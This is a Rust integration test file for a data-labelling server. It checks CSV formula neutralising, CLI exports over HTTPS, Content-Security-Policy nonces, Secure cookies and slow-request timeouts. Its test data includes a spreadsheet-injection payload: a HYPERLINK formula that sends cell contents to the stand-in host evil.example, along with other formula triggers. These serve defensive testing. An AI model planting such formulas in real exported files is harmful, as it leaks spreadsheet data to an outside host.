//! The security hardening of issue 6: CSV formula neutralising, the CLI over HTTPS, the
//! Content-Security-Policy, Secure cookies behind an https public URL, request timeouts.
use std::sync::Arc;
use std::time::{Duration, Instant};

use app::api_types::*;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::common::*;

both_backends!(
    csv_export_neutralises_formulas,
    cli_exports_over_https,
    pages_carry_a_csp_with_their_nonce,
    https_public_url_makes_the_session_cookie_secure,
    slow_request_bodies_get_408_but_uploads_stream_on,
);

/// The texts of the CSV test, as imported.
const FORMULA_TEXTS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "plain text",
    "a;=1",
];

async fn csv_export_neutralises_formulas(b: Backend) {
    let server = TestServer::start(b).await;
    let admin = server.admin().await;
    let pid = admin.simple_project("formulas", 1, 600).await.id;
    let lines: Vec<Value> = FORMULA_TEXTS
        .iter()
        .enumerate()
        .map(|(i, t)| json!({"id": format!("t{i}"), "text": t, "source": if i == 0 { "-feed" } else { "feed" }}))
        .collect();
    let report = admin.import(pid, "jsonl", jsonl(&lines)).await;
    assert_eq!(report.imported, FORMULA_TEXTS.len() as i64, "{report:?}");

    let text_by_id = |rows: &[std::collections::BTreeMap<String, String>]| -> Vec<(String, String)> {
        let mut v: Vec<(String, String)> = rows.iter().map(|r| (r["id"].clone(), r["text"].clone())).collect();
        v.sort();
        v
    };

    // The default: every text that starts with a trigger gets a leading quote, nothing else.
    let (header, rows) = admin.export_csv(pid, false).await;
    assert_eq!(header[3], "text");
    let expected: Vec<(String, String)> = FORMULA_TEXTS
        .iter()
        .enumerate()
        .map(|(i, t)| {
            let cell = if i < 6 { format!("'{t}") } else { t.to_string() };
            (format!("t{i}"), cell)
        })
        .collect();
    assert_eq!(text_by_id(&rows), expected);
    assert_eq!(
        rows.iter().find(|r| r["id"] == "t0").map(|r| r["source"].as_str()),
        Some("'-feed"),
        "every column is neutralised, not only text"
    );
    // Every cell is quoted, so `a;=1` stays one cell where spreadsheets split on `;`.
    let raw = admin.export_raw(pid, "csv", false).await;
    assert!(raw.text().contains("\"a;=1\""), "{}", raw.text());
    assert_eq!(
        raw.headers.get("content-type").and_then(|v| v.to_str().ok()),
        Some("text/csv; charset=utf-8")
    );

    // formulas=neutralise says the same explicitly.
    let explicit = admin.get_raw(&format!("/api/projects/{pid}/export?format=csv&formulas=neutralise")).await;
    explicit.assert_status(200);
    assert_eq!(explicit.body, raw.body);

    // formulas=keep: the values exactly as imported.
    let kept = admin.get_raw(&format!("/api/projects/{pid}/export?format=csv&formulas=keep")).await;
    kept.assert_status(200);
    let (_, kept_rows) = parse_csv(&kept.body);
    let raw_expected: Vec<(String, String)> =
        FORMULA_TEXTS.iter().enumerate().map(|(i, t)| (format!("t{i}"), t.to_string())).collect();
    assert_eq!(text_by_id(&kept_rows), raw_expected);

    // JSONL is data for programs: never changed.
    let items = admin.export_jsonl(pid, false).await;
    let mut texts: Vec<&str> = items.iter().map(|i| i["text"].as_str().unwrap()).collect();
    texts.sort();
    let mut want = FORMULA_TEXTS.to_vec();
    want.sort();
    assert_eq!(texts, want);

    let bad = admin.get_raw(&format!("/api/projects/{pid}/export?format=csv&formulas=raw")).await;
    let err = bad.assert_error(400, "bad_request");
    assert!(err.message.contains("keep"), "{err:?}");
}

/// A TLS front on 127.0.0.1 for a plain-HTTP server, with the test certificate of
/// tests/data/tls (issued to 127.0.0.1 by a test CA whose key was thrown away).
async fn tls_front(backend_port: u16) -> (u16, tokio::task::JoinHandle<()>) {
    use tokio_rustls::rustls;
    use tokio_rustls::rustls::pki_types::pem::PemObject;
    use tokio_rustls::rustls::pki_types::{CertificateDer, PrivateKeyDer};
    let dir = workspace_root().join("tests/data/tls");
    let certs: Vec<CertificateDer<'static>> = CertificateDer::pem_file_iter(dir.join("server.pem"))
        .expect("server.pem")
        .collect::<Result<_, _>>()
        .expect("server.pem certificates");
    let key = PrivateKeyDer::from_pem_file(dir.join("server.key")).expect("server.key");
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .expect("protocol versions")
        .with_no_client_auth()
        .with_single_cert(certs, key)
        .expect("server certificate");
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind TLS front");
    let port = listener.local_addr().unwrap().port();
    let task = tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(tcp).await else { return };
                let Ok(mut plain) = tokio::net::TcpStream::connect(("127.0.0.1", backend_port)).await else { return };
                let _ = tokio::io::copy_bidirectional(&mut tls, &mut plain).await;
            });
        }
    });
    (port, task)
}

/// Runs `mirrorset export` (CSV) against `url`; returns (success, stderr, the file).
async fn cli_export(url: &str, token: &str, pid: i64, ca_file: Option<&std::path::Path>) -> (bool, String, Vec<u8>) {
    let out = tempfile::NamedTempFile::new().unwrap();
    let mut cmd = tokio::process::Command::new(server_binary());
    cmd.args(["export", "--url", url, "--project", &pid.to_string(), "--format", "csv", "-o"])
        .arg(out.path())
        .env("MIRRORSET_TOKEN", token)
        .env_remove("MIRRORSET_URL")
        .env_remove("SSL_CERT_DIR")
        .stdin(std::process::Stdio::null());
    match ca_file {
        Some(f) => cmd.env("SSL_CERT_FILE", f),
        None => cmd.env_remove("SSL_CERT_FILE"),
    };
    let output = tokio::time::timeout(Duration::from_secs(60), cmd.output())
        .await
        .expect("the CLI finishes within 60 s")
        .expect("run mirrorset export");
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    (output.status.success(), stderr, std::fs::read(out.path()).unwrap_or_default())
}

async fn cli_exports_over_https(b: Backend) {
    let server = TestServer::start(b).await;
    let admin = server.admin().await;
    let pid = admin.simple_project("https", 1, 600).await.id;
    admin.import_texts(pid, "tls", 3).await;
    let token = admin.create_token("cli").await.secret;
    let port: u16 = server.base_url().rsplit(':').next().unwrap().parse().unwrap();
    let ca = workspace_root().join("tests/data/tls/ca.pem");

    // https:// to a plain-HTTP port: the CLI speaks TLS, and the handshake fails (before
    // rustls was enabled, reqwest refused the URL itself: "scheme is not http").
    let (ok, stderr, _) = cli_export(&format!("https://127.0.0.1:{port}"), &token, pid, Some(&ca)).await;
    assert!(!ok, "an https export from a plain-HTTP port succeeded");
    assert!(!stderr.contains("scheme is not http"), "the CLI has no TLS support: {stderr}");
    assert!(stderr.contains("corrupt message") || stderr.contains("InvalidContentType"), "not a TLS error: {stderr}");

    let (front, task) = tls_front(port).await;
    let url = format!("https://127.0.0.1:{front}");

    // The test CA is not in the system's store: the certificate is checked, and refused.
    let (ok, stderr, _) = cli_export(&url, &token, pid, None).await;
    assert!(!ok, "a certificate from an unknown issuer was accepted");
    assert!(stderr.contains("UnknownIssuer") || stderr.contains("certificate"), "{stderr}");

    // Trusting the test CA (SSL_CERT_FILE, as for a private CA): the export goes through TLS.
    let (ok, stderr, file) = cli_export(&url, &token, pid, Some(&ca)).await;
    assert!(ok, "export over https failed: {stderr}");
    let direct = admin.export_raw(pid, "csv", false).await;
    direct.assert_status(200);
    assert_eq!(String::from_utf8_lossy(&file), direct.text(), "the file differs from the API's export");
    assert_eq!(parse_csv(&file).1.len(), 3);
    task.abort();
}

/// The value of `name` in `directive-name value; …`.
fn directive<'a>(csp: &'a str, name: &str) -> Option<&'a str> {
    csp.split(';').map(str::trim).find_map(|d| d.strip_prefix(name).filter(|rest| rest.starts_with(' ')).map(str::trim))
}

fn csp_of(resp: &RawResponse) -> String {
    resp.headers
        .get("content-security-policy")
        .unwrap_or_else(|| panic!("{}: no Content-Security-Policy", resp.what))
        .to_str()
        .unwrap()
        .to_string()
}

/// Checks a rendered page: its policy's nonce is on every inline script, and no element has
/// a `style` attribute (which `style-src 'self'` would refuse). Returns the nonce.
fn check_page(resp: &RawResponse) -> String {
    let csp = csp_of(resp);
    let script_src = directive(&csp, "script-src").unwrap_or_else(|| panic!("no script-src in {csp}"));
    let nonce = script_src
        .split_whitespace()
        .find_map(|s| s.strip_prefix("'nonce-").and_then(|n| n.strip_suffix('\'')))
        .unwrap_or_else(|| panic!("{}: no nonce in {csp}", resp.what))
        .to_string();
    assert!(nonce.len() >= 16, "a nonce of 128 bits: {nonce}");
    let body = resp.text();
    let scripts: Vec<&str> = body.split("<script").skip(1).map(|s| s.split('>').next().unwrap()).collect();
    assert!(!scripts.is_empty(), "{}: no hydration script in {body}", resp.what);
    for attrs in scripts {
        assert!(attrs.contains(&format!("nonce=\"{nonce}\"")), "{}: a script without the nonce: <script{attrs}>", resp.what);
    }
    assert!(!body.contains(" style="), "{}: an inline style attribute: {body}", resp.what);
    nonce
}

async fn pages_carry_a_csp_with_their_nonce(b: Backend) {
    let server = TestServer::start(b).await;
    let admin = server.admin().await;
    let pid = admin.simple_project("csp", 1, 600).await.id;

    let login = server.client().get_raw("/login").await;
    login.assert_status(200);
    let csp = csp_of(&login);
    for (name, value) in [
        ("default-src", "'self'"),
        ("style-src", "'self'"),
        ("img-src", "'self' data: blob:"),
        ("object-src", "'none'"),
        ("frame-ancestors", "'none'"),
        ("base-uri", "'self'"),
        ("form-action", "'self'"),
    ] {
        assert_eq!(directive(&csp, name), Some(value), "{name} in {csp}");
    }
    let script_src = directive(&csp, "script-src").unwrap();
    assert!(script_src.starts_with("'self' 'nonce-") && script_src.ends_with("' 'wasm-unsafe-eval'"), "{csp}");
    assert!(!csp.contains("unsafe-inline") && !csp.contains("'unsafe-eval'"), "{csp}");
    let first = check_page(&login);
    let second = check_page(&server.client().get_raw("/login").await);
    assert_ne!(first, second, "a fresh nonce for every page");

    for path in ["/".to_string(), format!("/projects/{pid}"), format!("/projects/{pid}/label"), "/admin/users".into(), "/tokens".into()] {
        let page = admin.get_raw(&path).await;
        page.assert_status(200);
        check_page(&page);
    }
    let missing = admin.get_raw("/no/such/page").await;
    missing.assert_status(404);
    check_page(&missing);

    // Everything else (the API, static files) gets the same policy, without a nonce.
    let mut paths = vec!["/api/health", "/api/me", "/api/no-such-route"];
    // A static file, when the site is built (scripts/build-site.sh).
    if site_root().join("favicon.svg").exists() {
        paths.push("/favicon.svg");
    }
    for path in paths {
        let resp = admin.get_raw(path).await;
        let csp = csp_of(&resp);
        assert_eq!(directive(&csp, "script-src"), Some("'self' 'wasm-unsafe-eval'"), "{path}: {csp}");
        assert_eq!(directive(&csp, "frame-ancestors"), Some("'none'"), "{path}: {csp}");
        assert_eq!(directive(&csp, "default-src"), Some("'self'"), "{path}: {csp}");
    }
}

fn session_cookie(resp: &RawResponse) -> String {
    resp.headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("mirrorset_session="))
        .unwrap_or_else(|| panic!("{}: no session cookie set", resp.what))
        .to_string()
}

fn is_secure(cookie: &str) -> bool {
    cookie.split(';').skip(1).any(|attr| attr.trim().eq_ignore_ascii_case("secure"))
}

async fn https_public_url_makes_the_session_cookie_secure(b: Backend) {
    let server = TestServer::start_with_args(b, &["--public-url", "https://labels.example.org"]).await;
    let resp = server.client().login_raw("admin", server.admin_password()).await;
    resp.assert_status(200);
    let cookie = session_cookie(&resp);
    assert!(is_secure(&cookie), "an https public URL must make the cookie Secure: {cookie}");
    assert!(cookie.to_ascii_lowercase().contains("httponly"), "{cookie}");
    drop(server);

    // Plain HTTP (the default, and an http public URL): not Secure, or no browser would send it.
    let server = TestServer::start_with_args(b, &["--public-url", "http://127.0.0.1:3000"]).await;
    let resp = server.client().login_raw("admin", server.admin_password()).await;
    resp.assert_status(200);
    let cookie = session_cookie(&resp);
    assert!(!is_secure(&cookie), "Secure over plain HTTP: {cookie}");
}

/// Sends `head` and the first part of the body at once, the rest after `pause`; returns the
/// whole answer (the request says `Connection: close`) and how long after the first write it
/// was complete.
async fn send_slowly(port: u16, head: &str, body: &[u8], split: usize, pause: Duration) -> (String, Duration) {
    let mut tcp = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.expect("connect");
    let start = Instant::now();
    tcp.write_all(head.as_bytes()).await.unwrap();
    tcp.write_all(&body[..split]).await.unwrap();
    tcp.flush().await.unwrap();
    let rest = body[split..].to_vec();
    let mut answer = Vec::new();
    let (mut reader, mut writer) = tcp.into_split();
    let writing = tokio::spawn(async move {
        tokio::time::sleep(pause).await;
        // The server may have answered and closed already: a failed write is expected then.
        let _ = writer.write_all(&rest).await;
        writer
    });
    tokio::time::timeout(Duration::from_secs(30), reader.read_to_end(&mut answer))
        .await
        .expect("an answer within 30 s")
        .expect("read the answer");
    let elapsed = start.elapsed();
    writing.abort();
    (String::from_utf8_lossy(&answer).into_owned(), elapsed)
}

fn status_and_body(answer: &str) -> (u16, &str) {
    let status = answer.split_whitespace().nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let body = answer.split_once("\r\n\r\n").map(|(_, b)| b).unwrap_or("");
    (status, body)
}

async fn slow_request_bodies_get_408_but_uploads_stream_on(b: Backend) {
    const TIMEOUT_SECS: u64 = 2;
    let server = TestServer::start_with_args(b, &["--request-timeout-secs", &TIMEOUT_SECS.to_string()]).await;
    let port: u16 = server.base_url().rsplit(':').next().unwrap().parse().unwrap();

    // A JSON body that stops halfway: 408 in the API's error shape, once the timeout is over.
    let body = serde_json::to_vec(&LoginRequest { username: "admin".into(), password: "whatever-it-is".into() }).unwrap();
    let head = format!(
        "POST /api/auth/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let (answer, elapsed) = send_slowly(port, &head, &body, 10, Duration::from_secs(20)).await;
    let (status, json_body) = status_and_body(&answer);
    assert_eq!(status, 408, "{answer}");
    let err: ErrorBody = serde_json::from_str(json_body.trim())
        .unwrap_or_else(|e| panic!("not the JSON error shape ({e}): {answer}"));
    assert_eq!(err.error.code, "request_timeout", "{answer}");
    let limit = Duration::from_secs(TIMEOUT_SECS);
    assert!(elapsed >= limit - Duration::from_millis(100), "answered before the timeout: {elapsed:?}");
    assert!(elapsed < limit + Duration::from_secs(3), "the timeout took {elapsed:?}");

    // An upload is left alone: its body may pause longer than the request timeout.
    let admin = server.admin().await;
    let pid = admin.simple_project("slow upload", 1, 600).await.id;
    let token = admin.create_token("slow").await.secret;
    let file = jsonl(&[json!({"text": "one"}), json!({"text": "two"}), json!({"text": "three"})]).into_bytes();
    let head = format!(
        "POST /api/projects/{pid}/import?format=jsonl HTTP/1.1\r\nHost: 127.0.0.1\r\n\
         Authorization: Bearer {token}\r\nContent-Type: application/x-ndjson\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n",
        file.len()
    );
    let (answer, elapsed) = send_slowly(port, &head, &file, 12, Duration::from_secs(TIMEOUT_SECS + 1)).await;
    let (status, json_body) = status_and_body(&answer);
    assert_eq!(status, 200, "{answer}");
    let report: ImportReport = serde_json::from_str(json_body.trim()).unwrap_or_else(|e| panic!("{e}: {answer}"));
    assert_eq!(report.imported, 3, "{report:?}");
    assert!(elapsed > Duration::from_secs(TIMEOUT_SECS + 1), "{elapsed:?}");
}

/// A client that sends its request headers a little at a time cannot hold a connection: after
/// `--header-read-timeout-secs` the server closes it. (Under plain `axum::serve`, hyper had no
/// timer and the connection stayed open for as long as the client liked.) Not a database
/// matter, so SQLite only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_request_headers_close_the_connection() {
    const TIMEOUT_SECS: u64 = 2;
    let server = TestServer::start_with_args(Backend::Sqlite, &["--header-read-timeout-secs", &TIMEOUT_SECS.to_string()]).await;
    let port: u16 = server.base_url().rsplit(':').next().unwrap().parse().unwrap();

    let mut tcp = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.expect("connect");
    let start = Instant::now();
    tcp.write_all(b"GET /api/health HTTP/1.1\r\nHost: 127.0").await.unwrap();
    tcp.flush().await.unwrap();
    let mut answer = Vec::new();
    let closed = tokio::time::timeout(Duration::from_secs(TIMEOUT_SECS + 8), tcp.read_to_end(&mut answer)).await;
    let elapsed = start.elapsed();
    assert!(closed.is_ok(), "the connection was still open after {elapsed:?}");
    assert!(elapsed >= Duration::from_millis(TIMEOUT_SECS * 1000 - 100), "closed before the timeout: {elapsed:?}");
    assert!(elapsed < Duration::from_secs(TIMEOUT_SECS + 3), "closing took {elapsed:?}");

    // Prompt clients are served as before, on the same server.
    let health = server.client().get_raw("/api/health").await;
    health.assert_status(200);
}
